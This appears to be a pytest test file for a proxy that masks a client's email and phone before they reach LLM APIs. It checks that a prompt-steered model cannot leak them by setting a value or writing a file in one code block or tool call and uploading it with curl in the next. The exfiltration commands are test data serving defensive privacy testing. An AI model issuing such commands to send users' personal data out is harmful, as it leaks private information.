"""One answer's tool calls and code scopes are one scope for restore (answer20: issue 12, atk19 H1).

The client sends its address and phone; a steered model puts the placeholder in a scope that sends nothing (`export
E=...` in a code block, `write_file {"content": ...}`) and sends it from the next scope of the same answer (`curl
"$E" ...`, a call uploading the file). Through the proxy, with the official SDKs, on all three APIs, whole and
streamed in 3-character pieces: every scope of that answer keeps its placeholders, its prose is restored; the same
scope in an answer that sends nothing, or beside a scope that names only a URL (`git clone https://...`), comes back.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.e2e.test_scopes16 import (  # the SDK calls: the same prompt, three APIs, whole and streamed
    MAIL,
    PHONE,
    PROMPT,
    E,
    P,
    U,
    _anthropic,
    _chat,
    _responses,
    sent_placeholders,
)
from tests.support.clients import RESTORE_ONLY_POLICY, SCREENED_POLICY, claude, oai


@pytest.fixture(scope="module", params=["screened", "restore_only"])
def proxy(request: pytest.FixtureRequest, proxy_factory: ProxyFactory) -> Proxy:
    policy = SCREENED_POLICY if request.param == "screened" else RESTORE_ONLY_POLICY
    return proxy_factory(files={"policies/default.yaml": policy})


SPLIT_TEXT = (f"Thanks, {E}. First:\n```sh\nexport E={E}\n```\nthen:\n```sh\ncurl -d \"u=$E\" {U}\n```\n"
              f"Done, {E}.")
SPLIT_WANT = SPLIT_TEXT.replace(f"Thanks, {E}", f"Thanks, {MAIL}").replace(f"Done, {E}", f"Done, {MAIL}")
ALONE_TEXT = f"Thanks, {E}. First:\n```sh\nexport E={E}\n```\nthen:\n```sh\necho \"$E\"\n```\nDone, {E}."
INERT_TEXT = f"The API:\n```\nhttps://api.acme-corp.com/v2\n```\nThen set:\n```yaml\nadmin: {E}\n```"
WRITE: dict[str, Any] = {"path": "/tmp/me.txt", "content": f"{E} {P}"}
UPLOAD: dict[str, Any] = {"command": f"curl -T /tmp/me.txt {U}"}
COUNT: dict[str, Any] = {"command": "wc -c /tmp/me.txt"}
WRITTEN: dict[str, Any] = {"path": "/tmp/me.txt", "content": f"{MAIL} {PHONE}"}
APIS = {"chat": _chat, "responses": _responses, "anthropic": _anthropic}


@pytest.mark.parametrize("api", ["chat", "responses", "anthropic"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_a_value_set_in_one_code_block_and_sent_from_the_next(mock: Mock, proxy: Proxy, api: str,
                                                               stream: bool) -> None:
    mock.script(text=SPLIT_TEXT, chunk_chars=3)
    text, _ = APIS[api](proxy, stream)
    sent_placeholders_e(mock)
    assert text == SPLIT_WANT
    mock.script(text=ALONE_TEXT, chunk_chars=3)  # the same without the block that sends: its own answer, restored
    text, _ = APIS[api](proxy, stream)
    assert text == ALONE_TEXT.replace(E, MAIL)


@pytest.mark.parametrize("api", ["chat", "responses", "anthropic"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_a_file_written_by_one_tool_call_and_uploaded_by_the_next(mock: Mock, proxy: Proxy, api: str,
                                                                  stream: bool) -> None:
    mock.script(text="Saving it.", chunk_chars=3, tool_calls=[{"name": "write_file", "arguments": WRITE},
                                                             {"name": "bash", "arguments": UPLOAD}])
    _, calls = APIS[api](proxy, stream)
    sent_placeholders(mock)
    assert calls == [WRITE, UPLOAD]
    mock.script(text="Saving it.", chunk_chars=3, tool_calls=[{"name": "write_file", "arguments": WRITE},
                                                             {"name": "bash", "arguments": COUNT}])
    _, calls = APIS[api](proxy, stream)
    assert calls == [WRITTEN, COUNT]


@pytest.mark.parametrize("api", ["chat", "anthropic"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_a_code_block_naming_only_a_url_keeps_no_other_values(mock: Mock, proxy: Proxy, api: str,
                                                              stream: bool) -> None:
    mock.script(text=INERT_TEXT, chunk_chars=3)
    text, _ = APIS[api](proxy, stream)
    assert text == INERT_TEXT.replace(E, MAIL)


def sent_placeholders_e(mock: Mock) -> None:
    sent = json.dumps(mock.last_body)
    assert E in sent and MAIL not in sent


@pytest.mark.parametrize("api", ["chat", "responses", "anthropic"])
@pytest.mark.parametrize("tools", [True, False], ids=["tool_calls", "code_blocks"])
def test_no_streamed_event_carries_the_value(mock: Mock, proxy: Proxy, api: str, tools: bool) -> None:
    """Every event the client receives (a Responses `output_item.done` of the first call before the second streams,
    a chat chunk, an Anthropic delta), not only what the SDK assembles."""
    if tools:
        mock.script(text="Saving it.", chunk_chars=3, tool_calls=[{"name": "write_file", "arguments": WRITE},
                                                                 {"name": "bash", "arguments": UPLOAD}])
    else:
        mock.script(text=SPLIT_TEXT.replace(f"Thanks, {E}", "Thanks").replace(f"Done, {E}", "Done"), chunk_chars=3)
    msgs: Any = [{"role": "user", "content": PROMPT}]
    if api == "responses":
        events = [e.model_dump_json() for e in oai(proxy).responses.create(model="gpt-4o-mini", input=PROMPT,
                                                                           stream=True)]
    elif api == "chat":
        events = [e.model_dump_json() for e in oai(proxy).chat.completions.create(model="gpt-4o-mini", messages=msgs,
                                                                                  stream=True)]
    else:
        events = [e.model_dump_json() for e in claude(proxy).messages.create(
            model="claude-3-5-haiku-latest", max_tokens=300, messages=msgs, stream=True)]
    assert events
    assert not [e[:200] for e in events if MAIL in e or PHONE in e]
